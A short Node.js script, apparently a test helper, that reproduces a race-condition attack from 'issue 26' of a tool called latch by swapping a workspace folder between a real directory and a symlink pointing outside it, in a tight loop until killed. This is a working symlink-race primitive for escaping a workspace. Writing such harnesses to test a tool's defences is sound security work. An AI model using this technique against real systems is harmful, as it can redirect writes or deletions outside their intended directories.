// The attacker of issue 26: swaps a folder in the workspace between a real folder and a symlink to
// a folder outside it, as fast as it can, until killed. Usage: node swap-folder.mjs DIR SAVED TARGET.
// Errors are ignored: latch may create, fill or remove DIR meanwhile, and the swap just goes on.
import { renameSync, rmSync, symlinkSync, unlinkSync } from "node:fs";
import { setImmediate as nextTurn } from "node:timers/promises";

const [dir, saved, target] = process.argv.slice(2);
let swaps = 0;
const swap = () => {
  try {
    renameSync(dir, saved);
    symlinkSync(target, dir);
    swaps++;
  } catch {
    // DIR missing (latch removed it, or the last round was cut short): put the folder back below
  }
  try {
    unlinkSync(dir);
  } catch {
    // not the link
  }
  try {
    renameSync(saved, dir);
  } catch {
    // latch made a folder at DIR while it was a gap: clear it (inside the workspace) and go on
    try {
      rmSync(dir, { recursive: true, force: true });
      renameSync(saved, dir);
    } catch {
      // SAVED is gone too: DIR is whatever latch left; the next round works on that
    }
  }
};
swap();
process.stdout.write("ready\n");
process.on("SIGTERM", () => {
  process.stdout.write(`swaps ${swaps}\n`);
  process.exit(0);
});
// Tight loop, yielding now and then so SIGTERM is seen.
for (;;) {
  for (let i = 0; i < 200; i++) swap();
  await nextTurn();
}
